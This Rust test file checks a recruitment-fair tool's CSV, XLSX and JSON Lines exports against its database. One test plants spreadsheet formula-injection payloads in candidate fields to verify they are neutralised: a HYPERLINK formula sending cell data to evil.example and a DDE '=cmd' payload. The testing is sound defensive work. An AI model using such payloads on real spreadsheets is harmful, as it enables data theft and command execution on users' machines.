//! `fairfloor export`: the real binary on a real SQLite file, its output read back by independent
//! readers (the `csv` crate, `calamine` for XLSX, `serde_json`) and compared with the database row
//! by row; formulas neutralised; the event's day right across both clock changes and whatever
//! the laptop's clock said.

mod support;

use std::collections::HashMap;
use std::path::Path;

use calamine::{Data, Reader, Xlsx, open_workbook};
use chrono::{DateTime, NaiveDate, NaiveDateTime, SecondsFormat, TimeZone, Utc};
use chrono_tz::Europe::London;
use fairfloor::content::Content;
use fairfloor::export::{ColumnKind, Dataset};
use rusqlite::types::Value;
use support::Workspace;

/// A row as plain comparable text, in the export's column order; `None` for empty.
type Row = Vec<Option<String>>;

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A workspace with an event on 2026-11-23 and `candidates` demo candidates, most interviewed.
fn demo_day(candidates: usize) -> Workspace {
    let ws = Workspace::new().with_event();
    ws.ok(&["demo", "--candidates", &candidates.to_string()], "");
    ws
}

/// A stored UTC time, to the second (exports give times to the second).
fn utc_seconds(text: &str) -> String {
    DateTime::parse_from_rfc3339(text)
        .unwrap_or_else(|e| panic!("not a time: {text:?}: {e}"))
        .with_timezone(&Utc)
        .to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// What the database holds for a dataset, independently of the export's own SQL: each column
/// read with its own query, JSON lists joined and role codes looked up here.
fn expected(ws: &Workspace, dataset: Dataset) -> Vec<Row> {
    let content = Content::load().unwrap();
    let sql = match dataset {
        Dataset::Offers => {
            "SELECT o.reference, o.kind, o.status, o.created_at, o.expires_on,
                (SELECT ticket FROM candidates WHERE id = o.candidate_id),
                (SELECT given_name FROM candidates WHERE id = o.candidate_id),
                (SELECT family_name FROM candidates WHERE id = o.candidate_id),
                (SELECT email FROM candidates WHERE id = o.candidate_id),
                (SELECT phone FROM candidates WHERE id = o.candidate_id),
                o.role_code, o.role_code, o.site, o.contract, o.hours,
                (SELECT json_group_array(c.value) FROM json_each(o.conditions) c
                 WHERE c.value NOT IN (SELECT check_id FROM documents_seen WHERE offer_id = o.id)),
                o.onboarding_url, (SELECT name FROM staff WHERE id = o.staff_id),
                (SELECT total FROM screenings WHERE candidate_id = o.candidate_id AND status = 'completed'),
                (SELECT max_total FROM screenings WHERE candidate_id = o.candidate_id AND status = 'completed'),
                o.status_reason
             FROM offers o ORDER BY o.created_at, o.reference"
        }
        Dataset::Candidates => {
            "SELECT c.ticket, c.given_name, c.family_name, c.email, c.phone, c.postcode, c.roles,
                c.contract_types, c.work_patterns, c.right_to_work, c.care_experience, c.adjustments,
                c.source, c.status, c.registered_at, c.arrived_at, c.consent_at, c.privacy_version,
                (SELECT d.ticket FROM candidates d WHERE d.id = c.duplicate_of)
             FROM candidates c ORDER BY c.arrived_at IS NULL, c.arrived_at, c.ticket"
        }
        Dataset::Screenings => {
            "SELECT (SELECT ticket FROM candidates WHERE id = s.candidate_id),
                (SELECT given_name FROM candidates WHERE id = s.candidate_id),
                (SELECT family_name FROM candidates WHERE id = s.candidate_id),
                (SELECT name FROM staff WHERE id = s.staff_id),
                s.script_id, s.script_version, s.script_hash,
                CASE s.blind WHEN 1 THEN 'true' ELSE 'false' END, s.status, s.started_at,
                s.completed_at, s.total, s.max_total, s.recommendation, s.decision,
                s.override_reason, s.feedback, s.signposts
             FROM screenings s ORDER BY s.started_at, s.id"
        }
    };
    let columns = dataset.columns();
    let db = ws.sqlite();
    let mut stmt = db.prepare(sql).unwrap();
    let rows = stmt
        .query_map([], |r| {
            (0..columns.len())
                .map(|i| r.get::<_, Value>(i))
                .collect::<Result<Vec<_>, _>>()
        })
        .unwrap()
        .collect::<Result<Vec<_>, _>>()
        .unwrap();
    rows.into_iter()
        .map(|values| {
            columns
                .iter()
                .zip(values)
                .map(|(column, value)| {
                    let text = match value {
                        Value::Null => return None,
                        Value::Integer(n) => n.to_string(),
                        Value::Text(t) => t,
                        other => panic!("unexpected {other:?} in {}", column.name),
                    };
                    let text = match (column.name, column.kind) {
                        ("role_title", _) => content.roles.get(&text).unwrap().title.clone(),
                        (
                            "conditions" | "roles" | "contract_types" | "work_patterns"
                            | "signposts",
                            _,
                        ) => serde_json::from_str::<Vec<String>>(&text)
                            .unwrap()
                            .join("; "),
                        (_, ColumnKind::DateTime) => utc_seconds(&text),
                        _ => text,
                    };
                    Some(text).filter(|t| !t.is_empty())
                })
                .collect()
        })
        .collect()
}

/// Reads an exported CSV back with the `csv` crate: (header, rows). Times become UTC.
fn read_csv(bytes: &[u8], dataset: Dataset) -> (Vec<String>, Vec<Row>) {
    let mut reader = csv::Reader::from_reader(bytes);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            assert_eq!(record.len(), header.len());
            record
                .iter()
                .zip(dataset.columns())
                .map(|(cell, column)| {
                    Some(match column.kind {
                        ColumnKind::DateTime if !cell.is_empty() => utc_seconds(cell),
                        _ => cell.to_string(),
                    })
                    .filter(|t| !t.is_empty())
                })
                .collect()
        })
        .collect();
    (header, rows)
}

/// An Excel serial date-time as the local wall-clock time it shows.
fn from_excel_serial(serial: f64) -> NaiveDateTime {
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30)
        .unwrap()
        .and_hms_opt(0, 0, 0)
        .unwrap();
    epoch + chrono::Duration::seconds((serial * 86_400.0).round() as i64)
}

/// Reads an exported XLSX with calamine: (header, rows). Cells must have the column's type.
fn read_xlsx(path: &Path, dataset: Dataset) -> (Vec<String>, Vec<Row>) {
    let mut workbook: Xlsx<_> = open_workbook(path).unwrap();
    let range = workbook.worksheet_range("Export").unwrap();
    let mut rows = range.rows();
    let header: Vec<String> = rows
        .next()
        .unwrap()
        .iter()
        .map(|cell| match cell {
            Data::String(s) => s.clone(),
            other => panic!("header cell {other:?}"),
        })
        .collect();
    let rows = rows
        .map(|row| {
            row.iter()
                .zip(dataset.columns())
                .map(|(cell, column)| match (cell, column.kind) {
                    (Data::Empty, _) => None,
                    (Data::String(s), ColumnKind::Text) => {
                        Some(s.clone()).filter(|s| !s.is_empty())
                    }
                    (Data::Float(n), ColumnKind::Integer) => {
                        assert_eq!(n.fract(), 0.0);
                        Some((*n as i64).to_string())
                    }
                    (Data::Bool(b), ColumnKind::Bool) => Some(b.to_string()),
                    (Data::DateTime(d), ColumnKind::Date) => Some(
                        from_excel_serial(d.as_f64())
                            .date()
                            .format("%Y-%m-%d")
                            .to_string(),
                    ),
                    (Data::DateTime(d), ColumnKind::DateTime) => {
                        let local = from_excel_serial(d.as_f64());
                        let utc = London.from_local_datetime(&local).earliest().unwrap();
                        Some(
                            utc.with_timezone(&Utc)
                                .to_rfc3339_opts(SecondsFormat::Secs, true),
                        )
                    }
                    (cell, kind) => panic!("column {} ({kind:?}) holds {cell:?}", column.name),
                })
                .collect()
        })
        .collect();
    (header, rows)
}

/// Reads JSON Lines: every line one object with exactly the columns, values of the right JSON type.
fn read_jsonl(bytes: &[u8], dataset: Dataset) -> Vec<Row> {
    String::from_utf8(bytes.to_vec())
        .unwrap()
        .lines()
        .map(|line| {
            let object: serde_json::Map<String, serde_json::Value> =
                serde_json::from_str(line).unwrap();
            let keys: Vec<&str> = object.keys().map(String::as_str).collect();
            let mut names: Vec<&str> = dataset.columns().iter().map(|c| c.name).collect();
            names.sort_unstable();
            let mut keys_sorted = keys.clone();
            keys_sorted.sort_unstable();
            assert_eq!(keys_sorted, names);
            dataset
                .columns()
                .iter()
                .map(|column| match (&object[column.name], column.kind) {
                    (serde_json::Value::Null, _) => None,
                    (serde_json::Value::String(s), ColumnKind::DateTime) => Some(utc_seconds(s)),
                    (serde_json::Value::String(s), ColumnKind::Text | ColumnKind::Date) => {
                        Some(s.clone()).filter(|s| !s.is_empty())
                    }
                    (serde_json::Value::Number(n), ColumnKind::Integer) => {
                        Some(n.as_i64().unwrap().to_string())
                    }
                    (serde_json::Value::Bool(b), ColumnKind::Bool) => Some(b.to_string()),
                    (value, kind) => panic!("column {} ({kind:?}) holds {value}", column.name),
                })
                .collect()
        })
        .collect()
}

fn names(dataset: Dataset) -> Vec<String> {
    dataset
        .columns()
        .iter()
        .map(|c| c.name.to_string())
        .collect()
}

fn export(ws: &Workspace, dataset: Dataset, format: &str, extra: &[&str]) -> std::path::PathBuf {
    let out = ws.dir.path().join(format!("{}.{format}", dataset.name()));
    let mut args = vec![
        "export",
        dataset.name(),
        "--date",
        "2026-11-23",
        "--format",
        format,
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    let stdout = ws.ok(&args, "");
    assert!(stdout.contains(&out.display().to_string()), "{stdout}");
    out
}

#[test]
fn every_dataset_in_every_format_matches_the_database_row_by_row() {
    let ws = demo_day(150);
    for dataset in Dataset::ALL {
        let want = expected(&ws, dataset);
        assert!(want.len() >= 20, "{dataset}: only {} rows", want.len());

        let csv_path = export(&ws, dataset, "csv", &[]);
        let (header, rows) = read_csv(&std::fs::read(&csv_path).unwrap(), dataset);
        assert_eq!(header, names(dataset));
        for (i, (got, want)) in rows.iter().zip(&want).enumerate() {
            assert_eq!(got, want, "{dataset} CSV row {i}");
        }
        assert_eq!(rows.len(), want.len(), "{dataset} CSV rows");

        let xlsx_path = export(&ws, dataset, "xlsx", &[]);
        let (header, rows) = read_xlsx(&xlsx_path, dataset);
        assert_eq!(header, names(dataset));
        for (i, (got, want)) in rows.iter().zip(&want).enumerate() {
            assert_eq!(got, want, "{dataset} XLSX row {i}");
        }
        assert_eq!(rows.len(), want.len(), "{dataset} XLSX rows");

        let jsonl_path = export(&ws, dataset, "jsonl", &[]);
        let rows = read_jsonl(&std::fs::read(&jsonl_path).unwrap(), dataset);
        for (i, (got, want)) in rows.iter().zip(&want).enumerate() {
            assert_eq!(got, want, "{dataset} JSONL row {i}");
        }
        assert_eq!(rows.len(), want.len(), "{dataset} JSONL rows");
    }
}

#[test]
fn the_offers_row_count_is_printed_and_the_default_file_lands_in_the_current_folder() {
    // A demo fair's file says so in its name, so it is never mistaken for a real day's offers.
    let ws = demo_day(60);
    let offers: i64 = ws.value("SELECT count(*) FROM offers");
    let folder = tempfile::tempdir().unwrap();
    let output = ws
        .command(&["export", "offers", "--date", "2026-11-23"])
        .current_dir(folder.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(&format!("{offers} rows, to offers-2026-11-23-DEMO.csv")),
        "{stdout}"
    );
    let files: Vec<String> = std::fs::read_dir(folder.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(files, vec!["offers-2026-11-23-DEMO.csv".to_string()]);
}

#[test]
fn standard_output_carries_csv_with_an_optional_bom_but_never_xlsx() {
    let ws = demo_day(30);
    let plain = ws.run(&["export", "candidates", "--out", "-"], "");
    assert!(plain.status.success(), "{}", stderr(&plain));
    assert!(plain.stdout.starts_with(b"ticket,given_name,"));
    assert!(
        stderr(&plain).contains("Exported the candidates"),
        "{}",
        stderr(&plain)
    );
    let (_, rows) = read_csv(&plain.stdout, Dataset::Candidates);
    assert_eq!(rows, expected(&ws, Dataset::Candidates));

    let bom = ws.run(&["export", "candidates", "--out", "-", "--bom"], "");
    assert!(bom.stdout.starts_with("\u{feff}ticket,".as_bytes()));
    assert_eq!(&bom.stdout[3..], &plain.stdout[..]);

    let xlsx = ws.run(&["export", "offers", "--format", "xlsx", "--out", "-"], "");
    assert!(!xlsx.status.success());
    assert!(
        stderr(&xlsx).contains("cannot go to standard output"),
        "{}",
        stderr(&xlsx)
    );
    assert!(xlsx.stdout.is_empty());
}

#[test]
fn a_date_without_an_event_names_the_dates_that_have_one() {
    let ws = demo_day(5);
    let out = ws.run(&["export", "offers", "--date", "2026-11-24"], "");
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(
            "there is no event on 2026-11-24. Events in this database are on: 2026-11-23"
        ),
        "{}",
        stderr(&out)
    );
    let out = ws.run(&["export", "offers", "--date", "23/11/2026"], "");
    assert!(stderr(&out).contains("YYYY-MM-DD"), "{}", stderr(&out));
}

#[test]
fn an_unwritable_place_gives_a_clear_message_and_leaves_no_file() {
    let ws = demo_day(5);
    let missing = ws.dir.path().join("no-such-folder").join("offers.csv");
    let out = ws.run(
        &["export", "offers", "--out", missing.to_str().unwrap()],
        "",
    );
    assert!(!out.status.success());
    let message = stderr(&out);
    assert!(message.contains("no-such-folder"), "{message}");
    assert!(
        message.contains("Check that the folder exists"),
        "{message}"
    );
    assert!(!message.contains("panicked"), "{message}");
    assert!(!missing.exists());
}

#[test]
fn equality_monitoring_answers_never_appear_in_a_per_person_export() {
    let ws = demo_day(40);
    let db = ws.sqlite();
    let ids: Vec<String> = db
        .prepare("SELECT id FROM candidates")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let content = Content::load().unwrap();
    let questions: Vec<String> = content
        .equality
        .questions
        .iter()
        .map(|q| q.id.clone())
        .collect();
    for (i, id) in ids.iter().enumerate() {
        for question in &questions {
            db.execute(
                "INSERT OR REPLACE INTO equality_monitoring (id, candidate_id, question, answer, recorded_at)
                 VALUES (?1, ?2, ?3, 'zq-equality-answer', '2026-11-23T10:00:00.000Z')",
                rusqlite::params![format!("eq-{i}-{question}"), id, question],
            )
            .unwrap();
        }
    }
    drop(db);
    for dataset in Dataset::ALL {
        for format in ["csv", "jsonl"] {
            let path = export(&ws, dataset, format, &[]);
            let text = std::fs::read_to_string(&path).unwrap();
            assert!(!text.contains("zq-equality-answer"), "{dataset} {format}");
            for question in &questions {
                assert!(
                    !names(dataset).contains(question),
                    "{dataset} has {question}"
                );
            }
        }
    }
}

#[test]
fn hostile_text_arrives_as_text_while_numbers_and_phones_stay_untouched() {
    let ws = demo_day(20);
    let hostile = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
            "+SUM(A1:A9)",
        ),
        ("@cmd", "-1+1"),
        ("\tTabbed", "\rReturned"),
        ("-12.5", "+447700900123"),
    ];
    let db = ws.sqlite();
    let tickets: Vec<String> = db
        .prepare("SELECT ticket FROM candidates WHERE arrived_at IS NOT NULL ORDER BY arrived_at LIMIT 4")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    for (ticket, (given, family)) in tickets.iter().zip(hostile) {
        db.execute(
            "UPDATE candidates SET given_name = ?1, family_name = ?2 WHERE ticket = ?3",
            rusqlite::params![given, family, ticket],
        )
        .unwrap();
    }
    db.execute(
        "UPDATE candidates SET phone = '+447700900999', adjustments = '=cmd|'' /C calc''!A0' WHERE ticket = ?1",
        [&tickets[0]],
    )
    .unwrap();
    drop(db);
    let quoted = |text: &str| format!("'{text}");
    let want: Vec<(String, String)> = vec![
        (quoted(hostile[0].0), quoted(hostile[0].1)),
        (quoted(hostile[1].0), quoted(hostile[1].1)),
        (quoted(hostile[2].0), quoted(hostile[2].1)),
        ("-12.5".into(), "+447700900123".into()),
    ];

    let csv_path = export(&ws, Dataset::Candidates, "csv", &[]);
    let (_, csv_rows) = read_csv(&std::fs::read(&csv_path).unwrap(), Dataset::Candidates);
    let xlsx_path = export(&ws, Dataset::Candidates, "xlsx", &[]);
    let (_, xlsx_rows) = read_xlsx(&xlsx_path, Dataset::Candidates);
    for rows in [&csv_rows, &xlsx_rows] {
        let by_ticket: HashMap<&str, &Row> = rows
            .iter()
            .map(|row| (row[0].as_deref().unwrap(), row))
            .collect();
        for (ticket, (given, family)) in tickets.iter().zip(&want) {
            let row = by_ticket[ticket.as_str()];
            assert_eq!(row[1].as_deref(), Some(given.as_str()), "{ticket}");
            assert_eq!(row[2].as_deref(), Some(family.as_str()), "{ticket}");
        }
        let first = by_ticket[tickets[0].as_str()];
        assert_eq!(
            first[4].as_deref(),
            Some("+447700900999"),
            "phone untouched"
        );
        assert_eq!(first[11].as_deref(), Some("'=cmd|' /C calc'!A0"));
    }
    // In the spreadsheet every one of these is a text cell, never a formula or a number.
    let mut workbook: Xlsx<_> = open_workbook(&xlsx_path).unwrap();
    let formulas = workbook.worksheet_formula("Export").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formulas"
    );

    // JSON Lines is data for programs: the values exactly as typed.
    let jsonl_path = export(&ws, Dataset::Candidates, "jsonl", &[]);
    let rows = read_jsonl(&std::fs::read(&jsonl_path).unwrap(), Dataset::Candidates);
    let typed: Vec<(Option<String>, Option<String>)> = rows
        .into_iter()
        .map(|r| (r[1].clone(), r[2].clone()))
        .collect();
    for (given, family) in hostile {
        assert!(
            typed.contains(&(Some(given.into()), Some(family.into()))),
            "{given}"
        );
    }
}

/// Moves one candidate's arrival, interview and offer to `local` (Europe/London wall-clock time)
/// and returns their ticket.
fn move_to(ws: &Workspace, index: usize, local: NaiveDateTime) -> String {
    let at = London
        .from_local_datetime(&local)
        .earliest()
        .unwrap()
        .with_timezone(&Utc)
        .to_rfc3339_opts(SecondsFormat::Millis, true);
    let db = ws.sqlite();
    let (candidate, ticket): (String, String) = db
        .query_row(
            "SELECT c.id, c.ticket FROM offers o JOIN candidates c ON c.id = o.candidate_id
             ORDER BY o.created_at LIMIT 1 OFFSET ?1",
            [index as i64],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    db.execute(
        "UPDATE candidates SET arrived_at = ?1 WHERE id = ?2",
        [&at, &candidate],
    )
    .unwrap();
    db.execute(
        "UPDATE screenings SET started_at = ?1 WHERE candidate_id = ?2",
        [&at, &candidate],
    )
    .unwrap();
    db.execute(
        "UPDATE offers SET created_at = ?1 WHERE candidate_id = ?2",
        [&at, &candidate],
    )
    .unwrap();
    ticket
}

/// Moves one candidate, with their interview and offer, to another event of the same fair on
/// `date`, as a laptop registering on that day would have put them.
fn move_to_event_on(ws: &Workspace, ticket: &str, date: NaiveDate) {
    let db = ws.sqlite();
    let event = format!("event-{date}");
    db.execute(
        "INSERT OR IGNORE INTO events (id, name, venue, event_date, created_at)
         VALUES (?1, 'Clock Fair', 'Hall', ?2, '2026-01-01T00:00:00.000Z')",
        [&event, &date.to_string()],
    )
    .unwrap();
    let candidate: String = db
        .query_row(
            "SELECT id FROM candidates WHERE ticket = ?1",
            [ticket],
            |r| r.get(0),
        )
        .unwrap();
    for table in ["candidates", "screenings", "offers"] {
        let column = if table == "candidates" {
            "id"
        } else {
            "candidate_id"
        };
        db.execute(
            &format!("UPDATE {table} SET event_id = ?1 WHERE {column} = ?2"),
            [&event, &candidate],
        )
        .unwrap();
    }
}

fn clock_change_day(date: &str) {
    let ws = Workspace::new();
    ws.ok(&support::init_args("Clock Fair", "Hall", date), "");
    ws.ok(&["demo", "--candidates", "60"], "");
    let day = NaiveDate::parse_from_str(date, "%Y-%m-%d").unwrap();
    let at = |day: NaiveDate, h: u32, m: u32| day.and_hms_opt(h, m, 0).unwrap();
    let (before, after) = (day.pred_opt().unwrap(), day.succ_opt().unwrap());
    let early_in = move_to(&ws, 0, at(day, 0, 30));
    let late_in = move_to(&ws, 1, at(day, 23, 30));
    // The records of the days either side belong to those days' events.
    let late_out = move_to(&ws, 2, at(after, 0, 30));
    let early_out = move_to(&ws, 3, at(before, 23, 30));
    move_to_event_on(&ws, &late_out, after);
    move_to_event_on(&ws, &early_out, before);
    for dataset in Dataset::ALL {
        let path = ws.dir.path().join("day.csv");
        ws.export_on(dataset.name(), date, &path);
        let (_, rows) = read_csv(&std::fs::read(&path).unwrap(), dataset);
        let tickets: Vec<&str> = rows.iter().map(|r| r[0].as_deref().unwrap()).collect();
        let ticket_column = if dataset == Dataset::Offers { 5 } else { 0 };
        let tickets: Vec<&str> = if ticket_column == 0 {
            tickets
        } else {
            rows.iter()
                .map(|r| r[ticket_column].as_deref().unwrap())
                .collect()
        };
        for inside in [&early_in, &late_in] {
            assert!(
                tickets.contains(&inside.as_str()),
                "{date} {dataset}: {inside} missing"
            );
        }
        for outside in [&late_out, &early_out] {
            assert!(
                !tickets.contains(&outside.as_str()),
                "{date} {dataset}: {outside} included"
            );
        }
    }
}

#[test]
fn the_day_is_the_local_day_on_the_spring_clock_change() {
    // 2026-03-29: clocks go forward at 01:00 GMT, so the day is 23 hours long and ends at 23:00 UTC.
    clock_change_day("2026-03-29");
}

#[test]
fn the_day_is_the_local_day_on_the_autumn_clock_change() {
    // 2026-10-25: clocks go back at 02:00 BST, so the day starts at 23:00 UTC the evening before.
    clock_change_day("2026-10-25");
}

/// Issue 11: a walk-in registered while the laptop's clock is three days fast is still in that
/// day's export (and its interview and offer), because the day of a record is its event's.
#[test]
fn a_walk_in_registered_with_the_clock_three_days_fast_is_in_the_days_export() {
    use fairfloor::domain::{Registration, Source};
    use fairfloor::store::{Actor, Store};
    let ws = demo_day(10);
    let date = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
    let fast = London
        .from_local_datetime(&date.and_hms_opt(14, 0, 0).unwrap())
        .unwrap()
        .with_timezone(&Utc)
        + chrono::Duration::days(3);
    let ticket = {
        support::use_test_key();
        let mut store = Store::open(&ws.db).unwrap();
        let event = store.current_event().unwrap().unwrap();
        assert_eq!(event.date, date);
        let walk_in = Registration {
            given_name: "Fastclock".into(),
            family_name: "Walker".into(),
            email: Some("fast@example.com".into()),
            phone: None,
            postcode: None,
            roles: vec!["porter".into()],
            contract_types: vec![],
            work_patterns: vec![],
            right_to_work: None,
            care_experience: None,
            adjustments: String::new(),
            equality: vec![],
            privacy_version: Some("v1".into()),
        };
        store
            .register(&event, &walk_in, Source::WalkIn, &Actor::new("cli", fast))
            .unwrap()
            .ticket
    };
    let path = ws.dir.path().join("candidates.csv");
    ws.export_on("candidates", support::EVENT_DAY, &path);
    let (_, rows) = read_csv(&std::fs::read(&path).unwrap(), Dataset::Candidates);
    assert!(
        rows.iter()
            .any(|r| r[0].as_deref() == Some(ticket.as_str())),
        "{ticket} missing from the day's export"
    );
}

/// Issue 14: the conditions column lists the checks still to do, as the slip does: a passport
/// seen at the table takes "identity" off it.
#[test]
fn a_check_whose_document_was_seen_is_not_listed_as_still_to_do() {
    let ws = demo_day(60);
    let (reference, seen): (String, String) = ws
        .sqlite()
        .query_row(
            "SELECT o.reference, d.check_id FROM offers o JOIN documents_seen d ON d.offer_id = o.id
             ORDER BY o.reference LIMIT 1",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .expect("the demo sees some documents");
    let out = ws.dir.path().join("offers.csv");
    ws.export_on("offers", "2026-11-23", &out);
    let (header, rows) = read_csv(&std::fs::read(&out).unwrap(), Dataset::Offers);
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|row| row[at("reference")].as_deref() == Some(reference.as_str()))
        .unwrap();
    let conditions = row[at("conditions")].clone().unwrap_or_default();
    assert!(
        !conditions.split("; ").any(|c| c == seen),
        "{seen} was seen, yet still listed: {conditions}"
    );
    assert!(conditions.contains("criminal_record"), "{conditions}");
}
